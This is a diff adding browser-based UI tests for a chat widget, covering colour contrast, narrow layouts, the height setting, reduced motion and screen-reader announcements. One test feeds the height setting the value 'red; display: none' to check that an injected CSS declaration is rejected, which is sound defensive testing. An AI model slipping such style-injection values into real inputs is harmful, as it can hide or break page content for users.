+  const over = (top, under) => top.slice(0, 3).map((c, i) => c * top[3] + under[i] * (1 - top[3]));
+  const luminance = (rgb) => {
+    const [r, g, b] = rgb.map((c) => ((c /= 255) <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4));
+    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
+  };
+  const background = (element) => {
+    if (!element) return [255, 255, 255];
+    const own = rgba(getComputedStyle(element).backgroundColor);
+    return own[3] === 1 ? own.slice(0, 3) : over(own, background(element.parentElement));
+  };
+  const weak = [];
+  let texts = 0;
+  const walker = document.createTreeWalker(document.querySelector(".wb-chat"), NodeFilter.SHOW_TEXT);
+  while (walker.nextNode()) {
+    const element = walker.currentNode.parentElement;
+    if (!walker.currentNode.data.trim() || !element.checkVisibility() || element.closest(".wb-hidden, :disabled")) continue;
+    texts++;
+    const ground = background(element);
+    const [one, other] = [luminance(over(rgba(getComputedStyle(element).color), ground)), luminance(ground)].sort((a, b) => b - a);
+    const ratio = (one + 0.05) / (other + 0.05);
+    if (ratio < 4.5) weak.push([walker.currentNode.data.trim().slice(0, 30), element.className, ratio.toFixed(2)]);
+  }
+  return { weak, texts, ground: luminance(background(document.querySelector(".wb-chat"))) };
+}
+"""
+
+EVERYTHING = """# Heading
+
+Text with `code`, **bold**, [a link](https://example.org) and a list:
+
+1. one
+   - two
+
+> quoted
+
+| a | b |
+|---|--:|
+| x | 1 |
+
+```python
+@cache
+def f(x: int = 1) -> str:  # why
+    return f"{x}" + 'text' + len(None)
+```
+
+```diff
+- old
++ new
+```
+
+```sql
+SELECT count(*) AS n FROM t WHERE a = 'x' -- all
+```
+
+```typescript
+const x: number = /re/.exec(y) ?? 42; class A extends B {}
+```
+
+```html
+<p class="x">&amp;</p>
+```
+"""
+
+
+def test_every_text_has_contrast(open_page: Callable[..., Page], subtests: pytest.Subtests) -> None:
+    page = open_page()
+    messages = [
+        {"message_id": "u", "role": "user", "status": "complete", "text": "question"},
+        {"message_id": "a", "role": "assistant", "status": "failed", "text": EVERYTHING, "footer": "12 in"},
+    ]
+    show(page, snap={"local": True, "messages": messages})
+    receive(page, t="err", turn=None, error="Budget Exceeded", message="shorten it", type="x", retryable=False)
+    page.fill(".wb-input", "a draft")
+
+    # first where only the system decides, then in JupyterLab, whose choice wins, with the colours of its two themes
+    themes = {"light": ("white", "rgba(0,0,0,.87)"), "dark": ("#111", "#fff")}
+    for host in ["system", "jupyterlab"]:
+        for scheme, (ground, text) in themes.items():
+            system = scheme if host == "system" else {"light": "dark", "dark": "light"}[scheme]
+            page.emulate_media(color_scheme=system)
+            if host == "jupyterlab":
+                page.evaluate(
+                    "([light, style]) => { document.body.dataset.jpThemeLight = light; document.body.style = style }",
+                    [json.dumps(scheme == "light"), f"--jp-layout-color0: {ground}; --jp-content-font-color1: {text}"],
+                )
+            measured = page.evaluate(CONTRAST)
+            with subtests.test(host=host, scheme=scheme):
+                assert measured["weak"] == []
+                assert measured["texts"] > 60
+                assert (measured["ground"] < 0.5) == (scheme == "dark")
+
+
+def test_it_fits_a_narrow_page(open_page: Callable[..., Page]) -> None:
+    page = open_page(width=NARROWEST)
+    page.evaluate("document.body.style.margin = 0")
+    messages = [
+        {"message_id": "u", "role": "user", "status": "complete", "text": "averyveryverylongword" * 10},
+        {
+            "message_id": "a",
+            "role": "assistant",
+            "status": "failed",
+            "text": EVERYTHING,
+            "footer": "12 in · 34 out · $0.0004",
+        },
+    ]
+    show(page, snap={"local": True, "title": "A rather long title for a chat", "messages": messages})
+    assert page.evaluate("document.documentElement.scrollWidth") <= NARROWEST
+    outside = """
+    all => all.filter((e) => e.checkVisibility() && !e.closest("pre, .wb-table, .wb-hidden"))
+      .filter((e) => e.getBoundingClientRect().right > 320).map((e) => e.className)
+    """
+    assert page.locator(".wb-chat *").evaluate_all(outside) == []
+    for hook in [".wb-input", ".wb-send", ".wb-retry", ".wb-cost"]:
+        assert visible(page, hook)
+
+
+def test_height_follows_its_trait_and_nothing_moves_for_those_who_ask(open_page: Callable[..., Page]) -> None:
+    page = open_page(traits={"height": "300px"}, reduced_motion="reduce")
+    show(page)
+    assert page.evaluate("document.querySelector('.wb-chat').offsetHeight") == 300
+    page.evaluate("() => { model.traits.height = 'red; display: none'; model.emit('change:height') }")
+    assert page.evaluate("document.querySelector('.wb-chat').offsetHeight") == 480
+    start(page)
+    assert (
+        page.evaluate("getComputedStyle(document.querySelector('.wb-message .wb-state'), '::before').animationName")
+        == "none"
+    )
+
+
+def test_screen_readers_are_told_a_reply_once(page: Page) -> None:
+    show(page)
+    start(page)
+    log = page.locator("[role=log]")
+    assert log.get_attribute("aria-live") == "polite"
+    reply = page.locator(".wb-message[data-role=assistant]")
+    assert reply.get_attribute("aria-busy") == "true"
+    end(page)
+    assert reply.get_attribute("aria-busy") is None
